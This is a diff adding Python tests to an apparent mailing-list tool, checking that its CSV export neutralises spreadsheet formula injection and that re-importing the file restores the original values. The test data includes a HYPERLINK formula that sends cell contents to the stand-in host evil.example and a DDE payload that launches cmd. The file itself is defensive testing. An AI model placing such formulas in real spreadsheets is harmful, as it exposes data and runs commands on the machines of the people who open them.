@@ -396,3 +396,70 @@ def test_import_statements_seek_by_index_and_leave_no_staging_rows(
     assert any(s.startswith("INSERT INTO subscriptions") for s in checked)
     assert any(s.startswith("UPDATE subscriptions") for s in checked)
     assert db.execute("SELECT count(*) FROM temp.import_rows").fetchone()[0] == 0
+
+
+# --- formula injection (OWASP CSV injection) --------------------------------------------------
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
+    "-Ann",
+    "+1 555 0100",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted",
+    "''-two quotes",
+    "'Tis Ann",  # a quote before a harmless character is left alone
+    "Ann = Bob",  # only the first character matters
+]
+
+
+def test_export_neutralises_formulas_and_imports_back_unchanged(db, tmp_path):
+    from digest.audience.subscriptions import add_subscription
+
+    odd = create_list(db, "odd", title="Odd", from_addr="desk@example.com",
+                      tags=["@home", "Europe"], now=NOW)  # fmt: skip
+    people = [(f"p{i}@example.com", name, ["@home"]) for i, name in enumerate(HOSTILE_NAMES)]
+    people += [("-dash@example.com", "Dash", ["Europe"]), ("=eq@example.com", "Eq", []),
+               ("+plus@example.com", "Plus", ["@home", "Europe"])]  # fmt: skip
+    for address, name, tags in people:
+        add_subscription(db, odd, address, name=name, tags=tags, frequency="daily",
+                         confirmed=True, source="test", now=NOW)  # fmt: skip
+    names = {r["name"] for r in db.query("SELECT name FROM subscribers")}
+    assert set(HOSTILE_NAMES) <= names
+
+    export_csv(db, "odd", tmp_path / "out.csv")
+    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
+    import csv as csv_module
+
+    cells = [c for row in csv_module.reader(text.splitlines()) for c in row]
+    # What a spreadsheet would run: no exported cell starts with a formula character.
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert '\'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")' in text
+    assert "'-dash@example.com,Dash,Europe,daily" in text
+    assert "''=already quoted" in text and "'''-two quotes" in text
+    assert ",'Tis Ann," in text and ",Ann = Bob," in text  # unchanged
+    assert "'@home" in text  # a tags cell too
+
+    # The import takes exactly the added quote off: the export round-trips.
+    before = dump(db)
+    again = import_csv(db, tmp_path / "out.csv", "odd", now=NOW, confirmed=True)
+    assert again.ok and again.unchanged == len(HOSTILE_NAMES) + 3
+    assert dump(db) == before
+    other = open_db(tmp_path / "other.db", create=True)
+    create_list(other, "odd", title="Odd", from_addr="desk@example.com", tags=["@home", "Europe"],
+                now=NOW)  # fmt: skip
+    import_csv(other, tmp_path / "out.csv", "odd", now=NOW, confirmed=True)
+    assert {r["name"] for r in other.query("SELECT name FROM subscribers")} == names
+    export_csv(other, "odd", tmp_path / "out2.csv")
+    assert (tmp_path / "out2.csv").read_text(encoding="utf-8") == text
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["", "x", "=1+1", "-", "'", "'=", "''=", "'Tis", "\t=x", "\r-x", "@", "a=b", "'''@x", "''x"],
+)
+def test_neutralise_and_restore_are_inverse(value):
+    from digest.audience.csvfiles import neutralise_cell, restore_cell
+
+    escaped = neutralise_cell(value)
+    assert restore_cell(escaped) == value
+    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")
